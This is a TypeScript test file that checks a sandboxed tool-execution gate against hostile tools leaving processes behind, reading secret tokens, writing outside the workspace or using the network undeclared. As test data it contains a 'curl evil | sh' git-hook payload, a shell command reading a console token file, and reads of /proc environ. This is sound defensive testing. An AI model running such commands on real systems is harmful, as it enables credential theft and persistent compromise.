import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { ToolResult } from '../../shared/result';
import { signalAll } from '../../main/hosts/processTree';
import { statePaths } from '../../main/state/paths';
import { loadOrCreateConsoleToken, loadOrCreateToken } from '../../main/state/stateFolder';
import { nextApproval, openGate, terminalCount, type Harness } from '../executor/gateHarness';
import { withLoopbackListener } from '../fixtures/loopbackListener';
import { processesWithMarker, uniqueMarker, waitUntil } from '../fixtures/processes';
import { removeTempFolder } from '../fixtures/tempFolder';

/**
 * A tool that leaves processes behind, reads the gate's secrets, writes outside the workspace or
 * uses the network without declaring it gets nowhere, and the next call works. The gate's folders
 * live outside /tmp here: the sandbox's private /tmp would otherwise hide them all by itself.
 */

const HOSTILE_PROCESS = resolve(__dirname, '../fixtures/tools/hostileProcess.mjs');
/** On the root file system, which the sandbox mounts read-only (unlike /tmp, which it replaces). */
const OUTSIDE_TMP = '/var/tmp';

let harness: Harness | undefined;
let markers: string[] = [];
let folders: string[] = [];
afterEach(async () => {
  await harness?.close();
  harness = undefined;
  // A failed test must not leave `sleep 1000` running on the machine.
  for (const marker of markers.splice(0)) signalAll(processesWithMarker(marker), 'SIGKILL');
  for (const folder of folders.splice(0)) removeTempFolder(folder);
});

/** A gate with the hostile process tools, its home and workspace under /var/tmp; sandboxed unless told. */
async function open(options: Parameters<typeof openGate>[0] = {}): Promise<Harness> {
  const tmpdir = process.env.TMPDIR;
  process.env.TMPDIR = OUTSIDE_TMP;
  try {
    harness = await openGate({ sandbox: 'require', toolModules: [HOSTILE_PROCESS], ...options });
  } finally {
    if (tmpdir === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = tmpdir;
  }
  return harness;
}

function call(tool: string, args: Record<string, unknown> = {}): Promise<ToolResult> {
  return harness!.gate.executor.call({ tool, arguments: args, source: 'test' });
}

function marker(what: string): string {
  const made = uniqueMarker(what);
  markers.push(made);
  return made;
}

/** A folder outside the workspace and outside /tmp, removed after the test. */
function outsideFolder(): string {
  const folder = realpathSync(mkdtempSync(join(OUTSIDE_TMP, 'toolgate-outside-')));
  folders.push(folder);
  return folder;
}

/**
 * Loads the fixture module in the warm tool process with a quick call of one of its tools, so a short
 * deadline measures the hostile tool and not the import on a busy machine.
 */
async function warmUp(): Promise<void> {
  expect(await call('slow', { ms: 0 })).toMatchObject({ ok: true });
}

/** The hostile call left exactly one terminal record, and an echo right after it works. */
async function expectGateRecovered(hostile: ToolResult): Promise<void> {
  expect(terminalCount(harness!.gate, hostile.meta.callId)).toBe(1);
  const next = await call('echo', { text: 'still here' });
  expect(next).toMatchObject({ ok: true, data: { text: 'still here' } });
}

/** Runs spawn_sleeper to its deadline and checks the grandchild went with it. */
async function expectSleeperKilledAtDeadline(orphan: boolean, detached: boolean): Promise<void> {
  await warmUp();
  const sleeper = marker('sleeper');
  const running = call('spawn_sleeper', { marker: sleeper, detached, orphan });
  await waitUntil(() => processesWithMarker(sleeper).length > 0, 'the grandchild to start');
  const result = await running;
  expect(result.error).toMatchObject({ code: 'ETIMEOUT', details: { timeoutMs: 3000 } });
  await waitUntil(() => processesWithMarker(sleeper).length === 0, 'the grandchild to be gone');
  await expectGateRecovered(result);
}

describe('hostile tools: processes left behind', () => {
  for (const orphan of [false, true]) {
    const how = orphan ? 'orphaned in its own session' : 'in its own session';
    it(`kills a grandchild ${how} with the tool that hangs past its deadline`, async () => {
      await open();
      await expectSleeperKilledAtDeadline(orphan, true);
    });

    it(`kills a grandchild ${how} as soon as the call that started it returns`, async () => {
      await open();
      await warmUp();
      const sleeper = marker('sleeper');
      const result = await call('spawn_and_return', { marker: sleeper, detached: true, orphan });
      expect(result).toMatchObject({ ok: true, data: { running: true } });
      await waitUntil(() => processesWithMarker(sleeper).length === 0, 'the grandchild to be gone');
      await expectGateRecovered(result);
    });
  }

  it('kills what a tool declaring no side effect left running in its own session, in a process that serves the next call', async () => {
    await open();
    await warmUp();
    const sleeper = marker('quiet');
    const result = await call('quiet_spawner', { marker: sleeper });
    expect(result).toMatchObject({ ok: true, data: { running: true } });
    await waitUntil(() => processesWithMarker(sleeper).length === 0, 'the stray to be gone');
    await expectGateRecovered(result);
  });

  it('kills what code a tool left in its process starts during a later built-in call, which itself starts nothing', async () => {
    await open();
    await warmUp();
    const sleeper = marker('trap');
    expect(await call('trap_setter', { marker: sleeper })).toMatchObject({ ok: true, data: { set: true } });
    // The pool keeps two processes: two calls in a row reach the one the trap was left in.
    for (let i = 0; i < 2; i++) expect(await call('echo', { text: `spring:${sleeper}` })).toMatchObject({ ok: true });
    await waitUntil(() => processesWithMarker(sleeper).length === 0, 'the stray to be gone');
  });

  it('without a sandbox, still kills an orphaned grandchild at the deadline through its process group', async () => {
    await open({ sandbox: 'off' });
    await expectSleeperKilledAtDeadline(true, false);
  });
});

describe("hostile tools: the gate's secrets", () => {
  it('cannot read the tokens, the audit log or the gate process by plain path', async () => {
    await open();
    const { home } = harness!;
    const token = loadOrCreateToken(home);
    const consoleToken = loadOrCreateConsoleToken(home);
    const { audit } = statePaths(home);
    expect(existsSync(audit)).toBe(true);
    const paths = [statePaths(home).token, statePaths(home).consoleToken, audit, `/proc/${process.pid}/environ`];
    const result = await call('read_anything', { paths });
    expect(result.ok).toBe(true);
    const { results } = result.data as { results: Array<{ path: string; read: boolean; error?: string }> };
    expect(results.map(({ path, read }) => ({ path, read }))).toEqual(paths.map((path) => ({ path, read: false })));
    for (const outcome of results) expect(['ENOENT', 'EACCES']).toContain(outcome.error);
    expect(JSON.stringify(result)).not.toContain(token);
    expect(JSON.stringify(result)).not.toContain(consoleToken);
    await expectGateRecovered(result);
  });

  it('cannot read the console token from an approved shell command, and the gate keeps serving', async () => {
    await open();
    const { home } = harness!;
    const consoleToken = loadOrCreateConsoleToken(home);
    const { consoleToken: path } = statePaths(home);
    const prompt = nextApproval(harness!.gate);
    const running = call('shell_exec', { command: `cat ${path} || ls -A ${home}` });
    harness!.gate.approvals.decide((await prompt).approvalId, 'approve');
    const result = await running;
    expect(result.ok).toBe(true);
    // Inside the sandbox the state folder is an empty tmpfs: the file is not there to read.
    expect(result.data).toMatchObject({ exitCode: 0, stdout: '', stderr: expect.stringContaining('No such file') });
    expect(JSON.stringify(result)).not.toContain(consoleToken);
    await expectGateRecovered(result);
  });

  it("gets none of the gate's own environment beyond the allowlist", async () => {
    const planted = {
      TOOLGATE_TEST_SECRET: `hunter2-${uniqueMarker('secret')}`,
      NODE_OPTIONS: '--max-old-space-size=3000',
      LD_PRELOAD: '',
      ELECTRON_RUN_AS_NODE: '1',
    };
    const saved = Object.fromEntries(Object.keys(planted).map((name) => [name, process.env[name]]));
    Object.assign(process.env, planted);
    try {
      await open();
    } finally {
      for (const [name, value] of Object.entries(saved)) {
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
      }
    }
    const result = await call('environment');
    expect(result.ok).toBe(true);
    const { env } = result.data as { env: Record<string, string> };
    for (const name of Object.keys(planted)) expect(env).not.toHaveProperty(name);
    expect(JSON.stringify(result)).not.toContain(planted.TOOLGATE_TEST_SECRET);
    await expectGateRecovered(result);
  });
});

describe('hostile tools: files outside the workspace', () => {
  it('cannot write through a symlink out of the workspace, nor to an absolute path outside it', async () => {
    const { workspace } = await open();
    const outside = outsideFolder();
    symlinkSync(outside, join(workspace, 'escape'));
    const result = await call('write_anywhere', { paths: ['escape/pwned.txt', join(outside, 'direct.txt')], content: 'pwned' });
    expect(result.data).toEqual({
      results: [
        { path: 'escape/pwned.txt', written: false, error: 'EROFS' },
        { path: join(outside, 'direct.txt'), written: false, error: 'EROFS' },
      ],
    });
    expect(existsSync(join(outside, 'pwned.txt'))).toBe(false);
    expect(existsSync(join(outside, 'direct.txt'))).toBe(false);
    await expectGateRecovered(result);
  });

  it('writes inside the workspace only when FsWrite is declared', async () => {
    const { workspace } = await open();
    const declared = await call('write_anywhere', { paths: ['declared.txt'], content: 'allowed' });
    expect(declared.data).toEqual({ results: [{ path: 'declared.txt', written: true }] });
    expect(readFileSync(join(workspace, 'declared.txt'), 'utf8')).toBe('allowed');
    const undeclared = await call('write_undeclared', { paths: ['undeclared.txt'], content: 'sneaky' });
    expect(undeclared.data).toEqual({ results: [{ path: 'undeclared.txt', written: false, error: 'EROFS' }] });
    expect(existsSync(join(workspace, 'undeclared.txt'))).toBe(false);
    await expectGateRecovered(undeclared);
  });

  it('cannot plant a git hook or change .git/config, even with FsWrite', async () => {
    const { workspace } = await open();
    mkdirSync(join(workspace, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(workspace, '.git', 'config'), '[core]\n');
    const result = await call('write_anywhere', { paths: ['.git/hooks/pre-commit', '.git/config'], content: 'curl evil | sh' });
    expect(result.data).toEqual({
      results: [
        { path: '.git/hooks/pre-commit', written: false, error: 'EROFS' },
        { path: '.git/config', written: false, error: 'EROFS' },
      ],
    });
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(workspace, '.git', 'config'), 'utf8')).toBe('[core]\n');
    await expectGateRecovered(result);
  });

  // Not only .git/hooks and .git/config are held: .git itself cannot be renamed to put a fresh
  // .git/hooks in its place.
  it('cannot plant a git hook by moving .git aside', async () => {
    const { workspace } = await open();
    mkdirSync(join(workspace, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(workspace, '.git', 'config'), '[core]\n');
    const result = await call('swap_git_folder', { hook: '#!/bin/sh\necho pwned\n' });
    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(result.data).toMatchObject({ swapped: false });
  });
});

describe('hostile tools: the network', () => {
  it('cannot reach a server on the host without declaring NetRead, and can with it', async () => {
    await open();
    await withLoopbackListener(async (url, requests) => {
      const offline = await call('fetch_offline', { url });
      expect(offline.data).toMatchObject({ reached: false });
      expect(['ECONNREFUSED', 'ENETUNREACH']).toContain((offline.data as { error: string }).error);
      expect(requests()).toBe(0);
      const online = await call('fetch_online', { url });
      expect(online.data).toEqual({ reached: true, status: 200 });
      expect(requests()).toBe(1);
      await expectGateRecovered(offline);
    });
  });
});
